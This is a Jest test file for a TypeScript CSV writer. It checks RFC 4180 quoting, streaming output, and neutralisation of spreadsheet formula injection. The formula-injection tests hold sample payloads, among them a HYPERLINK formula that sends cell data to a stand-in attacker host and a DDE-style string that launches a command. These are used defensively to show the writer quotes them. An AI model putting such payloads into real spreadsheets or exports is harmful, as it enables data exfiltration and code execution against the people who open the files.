import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { CSV_BOM, type CsvCell, csvLines, csvRow, neutraliseFormula } from './csv.js';

/**
 * A strict RFC 4180 reader, written here so the writer is checked against the format and
 * not against itself: every record ends in CR LF, a quote may only open or close a field.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let index = 0;
  while (index < text.length) {
    if (text[index] === '"') {
      index += 1;
      for (;;) {
        if (index >= text.length) throw new Error('unterminated quoted field');
        if (text[index] === '"') {
          if (text[index + 1] !== '"') break;
          field += '"';
          index += 2;
        } else {
          field += text[index];
          index += 1;
        }
      }
      index += 1;
    } else {
      while (index < text.length && !',\r\n'.includes(text[index])) {
        if (text[index] === '"') throw new Error(`quote inside an unquoted field at ${index}`);
        field += text[index];
        index += 1;
      }
    }
    if (text[index] === ',') {
      record.push(field);
      field = '';
      index += 1;
    } else if (text.startsWith('\r\n', index)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else {
      throw new Error(`expected a comma or CR LF at ${index}`);
    }
  }
  if (record.length > 0 || field !== '') throw new Error('last record has no CR LF');
  return records;
}

/** What the export must write for user text, from OWASP's list, stated independently. */
function expectedField(text: string): string {
  const leading = ['=', '+', '-', '@', '\t', '\r', '\0'];
  const afterSpace = ['=', '+', '-', '@'];
  const dangerous =
    leading.includes(text.charAt(0)) || afterSpace.includes(text.trimStart().charAt(0));
  return dangerous ? `'${text}` : text;
}

async function collect(lines: AsyncGenerator<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const line of lines) out.push(line);
  return out;
}

async function* streamOf<T>(items: readonly T[]): AsyncGenerator<T> {
  for (const item of items) yield item;
}

describe('formula injection', () => {
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', '@SUM(1+1)'],
    ['TAB', '\t=1+1'],
    ['CR', '\r=1+1'],
    ['NUL', '\0=1+1'],
  ])('a cell starting with %s gets a leading quote', (_name, text) => {
    expect(parseCsv(csvRow([text]))).toEqual([[`'${text}`]]);
  });

  it('looks past leading white space, which an import may trim', () => {
    expect(neutraliseFormula('  =1+1')).toBe("'  =1+1");
    expect(neutraliseFormula('\n@SUM(A1)')).toBe("'\n@SUM(A1)");
    expect(neutraliseFormula('\u00a0-1')).toBe("'\u00a0-1");
  });

  it('leaves text alone when the trigger is not at the start', () => {
    for (const text of ['a=b', 'Dana-Reyes', 'me@example.com', '  plain', '', "'quoted"]) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it('treats a phone number in E.164 as user text, so it gets the quote too', () => {
    expect(csvRow(['+14155550123'])).toBe("'+14155550123\r\n");
  });

  it('writes numbers, booleans and dates we produce as they are, even negative', () => {
    const received = new Date(Date.UTC(2026, 10, 25, 9, 30, 0, 123));
    expect(csvRow([-5, 1.5, 0, true, false, received])).toBe(
      '-5,1.5,0,true,false,2026-11-25T09:30:00.123Z\r\n',
    );
  });

  it('refuses an invalid date rather than writing "Invalid Date"', () => {
    expect(() => csvRow([new Date(Number.NaN)])).toThrow(RangeError);
  });
});

describe('RFC 4180', () => {
  it('writes empty fields for null and undefined', () => {
    expect(csvRow([null, 'a', undefined])).toBe(',a,\r\n');
  });

  it('quotes a field holding a comma and doubles its quotes', () => {
    expect(csvRow(['Reyes, Dana', 'she said "hi"', 'plain'])).toBe(
      '"Reyes, Dana","she said ""hi""",plain\r\n',
    );
  });

  it('quotes a field holding a line break of any kind, and keeps it', () => {
    const cells = ['line one\r\nline two', 'a\nb', 'a\rb'];
    expect(csvRow(cells)).toBe('"line one\r\nline two","a\nb","a\rb"\r\n');
    expect(parseCsv(csvRow(cells))).toEqual([cells]);
  });

  it('quotes a neutralised field when it needs quotes, the quote mark inside', () => {
    expect(csvRow(['=1,2'])).toBe(`"'=1,2"\r\n`);
  });

  it('passes Unicode through untouched', () => {
    const cells = ['Zoë Ångström', '東京', '👩‍❤️‍👨', 'עברית'];
    expect(csvRow(cells)).toBe(`${cells.join(',')}\r\n`);
  });
});

describe('csvLines', () => {
  it('yields the byte order mark and header first, then one line per row', async () => {
    const lines = await collect(
      csvLines(
        ['reference', 'name', 'received'],
        streamOf([
          ['R-1', 'Dana', null],
          ['R-2', '=x', 7],
        ]),
      ),
    );
    expect(lines).toEqual([
      `${CSV_BOM}reference,name,received\r\n`,
      'R-1,Dana,\r\n',
      "R-2,'=x,7\r\n",
    ]);
  });

  it('yields only the header for no rows, and takes a plain array too', async () => {
    expect(await collect(csvLines(['a'], []))).toEqual([`${CSV_BOM}a\r\n`]);
    expect(await collect(csvLines(['a'], [['b']]))).toEqual([`${CSV_BOM}a\r\n`, 'b\r\n']);
  });

  it('passes on an error from the rows, after what was already written', async () => {
    async function* failing(): AsyncGenerator<CsvCell[]> {
      yield ['one'];
      throw new Error('database went away');
    }
    const lines = csvLines(['a'], failing());
    expect((await lines.next()).value).toBe(`${CSV_BOM}a\r\n`);
    expect((await lines.next()).value).toBe('one\r\n');
    await expect(lines.next()).rejects.toThrow('database went away');
  });
});

describe('properties', () => {
  // Any Unicode, and text made of the characters that matter here so they meet often.
  const tricky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', ' ', '"', ',', "'");
  const textArb = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.oneof(tricky, fc.constantFrom('a', 'é', '\u00a0', '😀')) }),
  );

  it('a reader gets back exactly the neutralised cells', () => {
    fc.assert(
      fc.property(fc.array(textArb, { minLength: 1, maxLength: 8 }), (cells) => {
        expect(parseCsv(csvRow(cells))).toEqual([cells.map(expectedField)]);
      }),
    );
  });

  it('no field a reader gets back starts a formula', () => {
    fc.assert(
      fc.property(textArb, (text) => {
        const [[field]] = parseCsv(csvRow([text]));
        expect(/^\s*[=+\-@]|^[\t\r\0]/u.test(field) && !field.startsWith("'")).toBe(false);
      }),
    );
  });

  it('a whole streamed file reads back as header and rows', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(textArb, { minLength: 1, maxLength: 4 }),
        fc.array(fc.array(textArb, { minLength: 1, maxLength: 4 }), { maxLength: 5 }),
        async (header, rows) => {
          const text = (await collect(csvLines(header, streamOf(rows)))).join('');
          expect(text.startsWith(CSV_BOM)).toBe(true);
          expect(parseCsv(text.slice(CSV_BOM.length))).toEqual(
            [header, ...rows].map((row) => row.map(expectedField)),
          );
        },
      ),
    );
  });
});
